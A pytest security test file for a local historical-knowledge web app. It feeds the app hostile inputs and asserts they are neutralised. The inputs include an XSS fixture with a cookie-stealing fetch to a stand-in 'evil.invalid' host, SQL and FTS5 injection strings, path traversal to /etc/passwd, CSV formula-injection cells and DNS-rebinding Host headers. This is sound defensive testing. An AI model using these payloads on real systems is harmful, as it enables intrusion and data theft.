"""Hostile text and hostile requests against the web app: markup and script in documents,
SQL and FTS5 syntax in queries, path traversal, absurd lengths, invalid dates, write
methods; plus schemathesis over the app's OpenAPI schema. Everything runs in-process
against the ASGI app; nothing is executed, nothing leaks, nothing is a 5xx."""

from __future__ import annotations

import asyncio
import warnings
from pathlib import Path
from urllib.parse import unquote_to_bytes

import pytest
import schemathesis
from bs4 import BeautifulSoup
from chronicle import build
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis.errors import Unsatisfiable

import cliograph
from cliograph.cli import cli
from cliograph.store import Store
from cliograph.web import make_app

with warnings.catch_warnings():  # starlette asks for httpx2; httpx works the same here
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

ROOT = Path(__file__).resolve().parent.parent

HOSTILE_HTML = """<!doctype html><html><head>
<title>Hostile &lt;script&gt;alert('t')&lt;/script&gt;</title>
<script>fetch('http://evil.invalid/?c=' + document.cookie)</script>
<meta http-equiv="refresh" content="0; url=http://evil.invalid/"></head><body>
<p>In 1919 an agitator in Petrograd wrote &lt;script&gt;alert(1)&lt;/script&gt; on a wall,
and Zinoviev laughed.</p>
<p>Trotsky answered &lt;img src=x onerror=alert(2)&gt; and
&lt;a href="javascript:alert(3)"&gt;click&lt;/a&gt; in the newspaper, and Lenin &amp; Kamenev
read it in 1920.</p>
<p>The clerk Robert'); DROP TABLE facts;-- Smith was appointed Secretary of the Soviet in 1921.</p>
<img src=x onerror="alert(4)"><iframe src="http://evil.invalid/"></iframe>
<p onclick="alert(5)">Kamenev opposed Zinoviev in {{ 7*7 }} and {% raw %} in 1922.</p>
</body></html>"""

MARKERS = ("alert(", "onerror", "javascript:", "DROP TABLE", "{{ 7*7 }}")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    page = folder / "hostile.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    db = folder / "hostile.db"
    store = Store(db)
    ids = build(store)
    store.close()
    report = cliograph.ingest([page], db=db)
    assert report.ok, report.failed
    ids["hostile"] = report.ingested[0].doc_id
    return db, ids


@pytest.fixture(scope="module")
def app(hostile_db):
    return make_app(hostile_db[0])


@pytest.fixture(scope="module")
def client(app):
    with TestClient(app, raise_server_exceptions=False, base_url="http://127.0.0.1") as c:
        yield c


def table_counts(db: Path) -> dict[str, int]:
    store = Store(db, create=False)
    try:
        return {t: store.db[t].count for t in ("documents", "entities", "facts", "mentions",
                                                "sentences", "aliases", "corrections")}
    finally:
        store.close()


def asgi(app, target: bytes, method: str = "GET", host: bytes = b"127.0.0.1:8001"
         ) -> tuple[int, dict[str, str], bytes]:
    """One request straight into the ASGI app, with the path exactly as given: HTTP
    clients normalise dot segments and refuse long URLs, a hostile peer does not."""
    path, _, query = target.partition(b"?")
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1",
             "method": method, "scheme": "http", "root_path": "", "raw_path": path,
             "path": unquote_to_bytes(path).decode("utf-8", "replace"), "query_string": query,
             "headers": [(b"host", host)], "client": ("127.0.0.1", 50000),
             "server": ("127.0.0.1", 8001)}
    out: dict = {"status": 0, "headers": {}, "body": b"", "received": False}

    async def receive() -> dict:
        if out["received"]:  # as a server does: nothing more until the client goes
            await asyncio.Event().wait()
        out["received"] = True
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict) -> None:
        if message["type"] == "http.response.start":
            out["status"] = message["status"]
            out["headers"] = {k.decode(): v.decode() for k, v in message["headers"]}
        elif message["type"] == "http.response.body":
            out["body"] += message.get("body", b"")

    asyncio.run(app(scope, receive, send))
    return out["status"], out["headers"], out["body"]


def assert_no_injected_markup(html: str) -> None:
    page = BeautifulSoup(html, "html.parser")
    for script in page.find_all("script"):
        assert script.get("src", "").startswith("/static/"), script
    for tag in page.find_all(True):
        assert not any(a.lower().startswith("on") for a in tag.attrs), tag
        for attr in ("href", "src", "action"):
            assert not str(tag.get(attr, "")).lower().startswith("javascript:"), tag
    for tag in ("iframe", "img", "meta[http-equiv]", "object", "embed"):
        assert not page.select(tag), tag


# ------------------------------------------------------------------ hostile documents

def test_hostile_html_reader_drops_live_markup_keeps_text_as_text(hostile_db):
    store = Store(hostile_db[0], create=False)
    text = store.db["documents"].get(hostile_db[1]["hostile"])["text"]
    store.close()
    assert "<script>alert(1)</script>" in text  # the page's *text*, escaped in the source
    assert "fetch(" not in text and "evil.invalid" not in text and "alert(4)" not in text
    assert "alert(5)" not in text and "{{ 7*7 }}" in text


def test_hostile_document_every_page_escapes_it(client, hostile_db):
    doc = hostile_db[1]["hostile"]
    entity_ids = [e["id"] for e in client.get("/entities.json").json()["entities"]]
    urls = ["/", "/entities", "/timeline", "/network", "/state", f"/document/{doc}",
            f"/document/{doc}?at=0-40", "/search?q=alert", "/search?q=DROP+TABLE",
            "/search?q=onerror", "/search?q=javascript"]
    urls += [f"/entity/{eid}" for eid in entity_ids]
    for url in urls:
        r = client.get(url)
        assert r.status_code == 200, url
        assert "<script>alert" not in r.text and "<img src=x" not in r.text, url
        assert_no_injected_markup(r.text)
        assert "script-src 'self'" in r.headers["content-security-policy"]
    reader = BeautifulSoup(client.get(f"/document/{doc}").text, "html.parser")
    assert "{{ 7*7 }}" in reader.select_one("#text").get_text()  # no template evaluation
    twin = client.get(f"/document/{doc}.json")
    assert twin.headers["content-type"].startswith("application/json")
    assert "<script>alert(1)</script>" in twin.json()["text"]  # data stays data


# ------------------------------------------------------------------ hostile queries

SEARCHES = ["' OR 1=1 --", 'x"); DROP TABLE facts;--', "Robert'); DROP TABLE facts;--",
            "NEAR(", "NEAR(a b", "*", '"', '""', "a*b", "^Lenin", "Lenin OR", "AND", "NOT x",
            "text:Lenin", "{text}: x", "x:", "(", ")", "%", "_", "\\", "\x00", "a\x00b",
            "\ud7ff\ue000", "Lenin' UNION SELECT text FROM documents --", "1; ATTACH 'x' AS y",
            "<script>alert(1)</script>", "${7*7}", "{{7*7}}", " ", "-", "--", ";"]


@pytest.mark.parametrize("q", SEARCHES)
def test_search_with_sql_and_fts_syntax_is_only_words(client, hostile_db, q):
    before = table_counts(hostile_db[0])
    r = client.get("/search.json", params={"q": q})
    assert r.status_code == 200, r.text
    data = r.json()
    assert data["ok"] is True and data["q"] == q
    page = client.get("/search", params={"q": q})
    assert page.status_code == 200
    assert_no_injected_markup(page.text)
    assert table_counts(hostile_db[0]) == before


@pytest.mark.parametrize("url", [
    "/entity/' OR 1=1 --.json", "/entity/x\"); DROP TABLE facts;--.json",
    "/document/' OR '1'='1.json", "/timeline.json?entity=' OR 1=1 --",
    "/timeline.json?entity=%00", "/timeline.json?entity=%25", "/timeline.json?entity=_",
    "/timeline.json?kind=PERSON' OR 1=1 --", "/timeline.json?type=KIN;DROP TABLE facts",
    "/entities.json?kind=PERSON' --", "/document/x.json?at=1-2;DROP TABLE facts",
])
def test_sql_in_ids_and_filters_is_a_4xx(client, hostile_db, url):
    before = table_counts(hostile_db[0])
    r = client.get(url)
    assert 400 <= r.status_code < 500, (url, r.status_code, r.text[:200])
    data = r.json()
    assert data["ok"] is False and "\n" not in data["error"]
    assert table_counts(hostile_db[0]) == before


@pytest.mark.parametrize("target", [
    b"/document/..%2f..%2fetc%2fpasswd", b"/document/..%2f..%2fetc%2fpasswd.json",
    b"/document/../../etc/passwd", b"/static/../../pyproject.toml",
    b"/static/..%2f..%2fpyproject.toml", b"/static/%2e%2e/%2e%2e/pyproject.toml",
    b"/static/../app.py", b"/static/../templates/base.html", b"/static/vendor/../../views.py",
    b"/static/....//....//pyproject.toml", b"/static/%252e%252e/pyproject.toml",
    b"/static//etc/passwd", b"/static/%00", b"/entity/..%2f..%2fpyproject.toml.json",
    b"/../../etc/passwd", b"/%2e%2e/%2e%2e/etc/passwd",
])
def test_path_traversal_is_a_404_and_leaks_nothing(app, target):
    status, _, body = asgi(app, target)
    assert status in (400, 404), (target, status)
    assert b"root:" not in body and b"[build-system]" not in body
    assert b"def make_app" not in body and b"{% block" not in body


@pytest.mark.parametrize("target", [
    b"/search.json?q=" + b"a" * 100_000, b"/search?q=" + b"a" * 100_000,
    b"/state.json?date=" + b"1" * 100_000, b"/network.json?at=" + b"9" * 100_000,
    b"/timeline.json?entity=" + b"x" * 100_000, b"/entities.json?kind=" + b"P" * 100_000,
    b"/document/x.json?at=" + b"1" * 100_000,
])
def test_absurdly_long_query_is_a_400(app, target):
    status, headers, body = asgi(app, target)
    assert status == 400, (target[:40], status, body[:200])
    assert len(body) < 20_000  # the error names the parameter; it does not echo 100k back


@pytest.mark.parametrize("target", [
    b"/entity/" + b"a" * 100_000 + b".json", b"/document/" + b"f" * 100_000 + b".json",
    b"/timeline.json?" + b"&".join(b"kind=PERSON" for _ in range(10_000)),
    b"/search.json?" + b"&".join(b"x%d=y" % i for i in range(20_000)),
])
def test_huge_paths_and_many_parameters_are_no_server_error(app, target):
    status, _, _ = asgi(app, target)
    assert status < 500


@pytest.mark.parametrize("date", ["2022-13-45", "-99999", "abc", "1922-02-30", "0000-00-00",
                                  "99999999999999999999", "1922-5-1", "1922-05-01T00:00",
                                  "<script>", "1922/1923", "%00"])
def test_invalid_dates_are_a_400(client, date):
    for url in (f"/state.json?date={date}", f"/network.json?at={date}",
                f"/network.json?from={date}", f"/network.json?to={date}"):
        r = client.get(url)
        assert r.status_code == 400, (url, r.status_code, r.text[:200])
        assert r.json()["error"].startswith("invalid date")
    page = client.get("/state", params={"date": date})
    assert page.status_code == 400 and "<script>" not in page.text.split("</head>")[1]


# ------------------------------------------------------------------ read-only, localhost

def test_no_write_methods_anywhere(app, client):
    paths = {r.path for r in app.routes if hasattr(r, "methods")}
    paths = {p.replace("{entity_id}", "joseph-stalin").replace("{doc_id}", "x") for p in paths}
    paths |= {"/static/app.css", "/nowhere"}
    for path in sorted(paths):
        for method in ("POST", "PUT", "DELETE", "PATCH"):
            status, _, body = asgi(app, path.encode(), method)
            assert status in (404, 405), (method, path, status)
            assert status == 405 or path == "/nowhere"


def test_the_app_connection_cannot_write(app, hostile_db):
    import sqlite3

    with pytest.raises(sqlite3.OperationalError, match="readonly|read-only|query_only"):
        app.state.store.db.execute("delete from facts")
    assert table_counts(hostile_db[0])["facts"] > 0


def test_serve_binds_loopback_by_default(tmp_path, monkeypatch):
    import uvicorn

    db = tmp_path / "x.db"
    Store(db).close()
    seen = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: seen.update(kw))
    result = CliRunner().invoke(cli, ["serve", "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert seen["host"] == "127.0.0.1"
    assert "http://127.0.0.1:" in result.output


def test_head_answers_as_get_without_a_body(app):
    for path in (b"/", b"/index.json", b"/entities", b"/static/app.css"):
        got, head = asgi(app, path), asgi(app, path, "HEAD")
        assert got[0] == head[0] == 200, (path, got[0], head[0])
        assert head[2] == b"" and got[2]
        assert head[1]["content-type"] == got[1]["content-type"]
        assert head[1]["content-length"] == got[1]["content-length"]


@pytest.mark.parametrize("host", [b"evil.example", b"evil.example:8001", b"127.0.0.1.evil.example",
                                  b"", b"localhost.evil:8001", b"[::2]:8001"])
def test_a_foreign_host_header_is_refused(app, host):
    """DNS rebinding: a page on evil.example re-points its name at 127.0.0.1 and reads
    the local server as its own; its requests say 'Host: evil.example'."""
    status, _, body = asgi(app, b"/index.json", host=host)
    assert status == 421, (host, status)
    assert b"Host" in body and b"joseph" not in body


@pytest.mark.parametrize("host", [b"127.0.0.1", b"127.0.0.1:8001", b"localhost:8001",
                                  b"LOCALHOST", b"[::1]:8001", b"localhost.:8001"])
def test_the_loopback_names_are_accepted(app, host):
    assert asgi(app, b"/index.json", host=host)[0] == 200, host


def test_the_served_host_names_follow_the_bound_address():
    from cliograph.web.app import allowed_hosts

    assert set(allowed_hosts("127.0.0.1")) == {"127.0.0.1", "localhost", "::1"}
    assert allowed_hosts("192.168.1.20") == ("192.168.1.20",)
    assert allowed_hosts("0.0.0.0") is None  # every interface: the user chose to be reachable


@pytest.mark.parametrize("date", ["١٩٢٢", "１９２２", "१९२२-०५-०१", "1922-０5"])
def test_digits_of_other_scripts_are_not_dates(client, date):
    from cliograph import timex

    r = client.get("/state.json", params={"date": date})
    assert r.status_code == 400 and r.json()["error"].startswith("invalid date")
    assert timex.normalise(date) is None and timex.normalise(f"in May {date}") is None
    assert not timex.is_valid_edtf(date)
    assert timex.normalise("in May 1922").value == "1922-05"


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    import csv

    from cliograph.export.csv import neutralise, write_csv

    for cell in ("=HYPERLINK(\"http://x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                 "\t=1", "\r=1"):
        assert neutralise(cell) == "'" + cell
    for cell in ("-0044-03-15", "-0044/-0040", "1922-05", "-12.5", -44.0, 3, None, "Lenin"):
        assert neutralise(cell) == cell
    db = tmp_path / "csv.db"
    store = Store(db)
    store.db["entities"].insert({"id": "eq", "kind": "PERSON", "name": "=cmd|'/C calc'!A0",
                                 "ambiguous": 0})
    store.db["aliases"].insert({"entity_id": "eq", "alias": "@evil", "norm": "evil"})
    write_csv(store, tmp_path / "out")
    store.close()
    def rows(name: str) -> list[dict[str, str]]:
        with (tmp_path / "out" / name).open(encoding="utf-8", newline="") as fh:
            return list(csv.DictReader(fh))

    entity = rows("entities.csv")[0]
    assert entity["name"] == "'=cmd|'/C calc'!A0" and entity["id"] == "eq"
    assert rows("aliases.csv")[0]["alias"] == "'@evil"


# ------------------------------------------------------------------ schemathesis

@pytest.mark.parametrize("mode", ["positive", "negative"])
def test_schemathesis_no_server_errors(hostile_db, mode):
    """Every operation of the app's OpenAPI schema, with data that fits it (positive) and
    data that breaks it (negative), through the in-process ASGI app: never a 5xx.

    Driven through Hypothesis directly: schemathesis's pytest fixture loader does not run
    under pytest 9 (it reads a private node attribute that pytest renamed). Each run gets
    its own app: schemathesis's pytest plugin shuts an app's lifespan down after a test,
    and the app closes its store then."""
    app = make_app(hostile_db[0], hosts=None)  # the Host check has its own test
    schema = schemathesis.openapi.from_dict(app.openapi())
    schema.app = app  # case.call() goes to the ASGI app, never the network
    generation = schemathesis.GenerationMode(mode)
    failures: list[tuple] = []
    calls = 0
    for result in schema.get_all_operations():
        operation = result.ok()

        @given(case=operation.as_strategy(generation_mode=generation))
        @settings(max_examples=30, deadline=None, database=None, derandomize=True,
                  suppress_health_check=list(HealthCheck))
        def check(case) -> None:
            nonlocal calls
            calls += 1
            response = case.call()
            if response.status_code >= 500:
                failures.append((case.method, case.formatted_path, case.query,
                                 response.status_code, response.text[:200]))

        try:
            check()
        except Unsatisfiable:  # no parameter to break: nothing negative to send
            assert mode == "negative", operation.label
    print(f"\nschemathesis ({mode}): {calls} calls, {len(failures)} server errors")
    assert calls >= 100
    assert failures == []


# ------------------------------------------------------------------ editing (serve --edit)

@pytest.fixture
def edit_app(tmp_path):
    db = tmp_path / "edit.db"
    store = Store(db)
    build(store)
    store.close()
    return make_app(db, edit=True), db


def _token(client: TestClient, path: str = "/facts") -> str:
    page = BeautifulSoup(client.get(path).text, "html.parser")
    return page.select_one("input[name=csrf]")["value"]


def _a_fact(db: Path) -> str:
    store = Store(db, create=False)
    try:
        return next(store.facts())["id"]
    finally:
        store.close()


def test_the_editing_server_refuses_a_post_without_its_session_token(edit_app):
    app, db = edit_app
    fact = _a_fact(db)
    before = table_counts(db)["corrections"]
    form = {"action": "reject", "fact": fact, "next": "/facts"}
    # clients without `with`: leaving one would run the app's shutdown, closing its store
    c = TestClient(app, base_url="http://127.0.0.1", follow_redirects=False)
    assert c.post("/correct", data=form).status_code == 403  # no session, no token
    token = _token(c)
    assert c.post("/correct", data=form).status_code == 403  # a session, no token
    assert c.post("/correct", data={**form, "csrf": token + "x"}).status_code == 403
    other = TestClient(app, base_url="http://127.0.0.1")  # another session, the first's token
    assert other.post("/correct", data={**form, "csrf": token}).status_code == 403
    assert table_counts(db)["corrections"] == before
    ok = c.post("/correct", data={**form, "csrf": token})
    assert ok.status_code == 303 and ok.headers["location"] == "/facts"
    assert table_counts(db)["corrections"] == before + 1
    # a redirect never leaves the site; junk is a 400, not a 500
    away = c.post("/correct", data={**form, "action": "confirm", "csrf": token,
                                    "next": "//evil.example/x"})
    assert away.headers["location"] == "/"
    for bad in ({"action": "explode"}, {"action": "undo", "correction": "1; drop"},
                {"action": "split", "entity": "joseph-stalin", "name": "X", "mention": "../../etc"}):
        assert c.post("/correct", data={**bad, "csrf": token}).status_code == 400, bad
    big = c.post("/correct", content=b"csrf=" + token.encode() + b"&x=" + b"a" * 70000,
                 headers={"content-type": "application/x-www-form-urlencoded"})
    assert big.status_code == 400
    assert c.get("/corrections").status_code == 200
    # the session cookie is HttpOnly and SameSite=Strict: another site's page cannot send it
    cookie = TestClient(app, base_url="http://127.0.0.1").get("/").headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie


def test_the_editing_server_reads_on_a_query_only_connection(edit_app):
    import sqlite3

    app, _ = edit_app
    with pytest.raises(sqlite3.OperationalError, match="readonly|read-only|query_only"):
        app.state.store.db.execute("delete from facts")


def test_the_read_only_server_has_no_writing_route(app, client, hostile_db):
    """No route but GET/HEAD; POST /correct with a would-be token changes nothing."""
    assert all(r.methods <= {"GET", "HEAD"} for r in app.routes if hasattr(r, "methods"))
    before = table_counts(hostile_db[0])
    page = client.get("/facts").text
    assert "csrf" not in page and 'action="/correct"' not in page
    assert "set-cookie" not in client.get("/").headers
    r = client.post("/correct", data={"action": "reject", "fact": "x", "csrf": "x"})
    assert r.status_code in (404, 405)
    assert table_counts(hostile_db[0]) == before


def test_serve_edit_binds_this_machine_only(tmp_path, monkeypatch):
    import uvicorn

    db = tmp_path / "x.db"
    Store(db).close()
    seen = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: seen.update(kw))
    result = CliRunner().invoke(cli, ["serve", "--edit", "--db", str(db)])
    assert result.exit_code == 0 and seen["host"] == "127.0.0.1", result.output
    result = CliRunner().invoke(cli, ["serve", "--edit", "--host", "0.0.0.0", "--db", str(db)])
    assert result.exit_code == 2 and "this machine only" in result.output
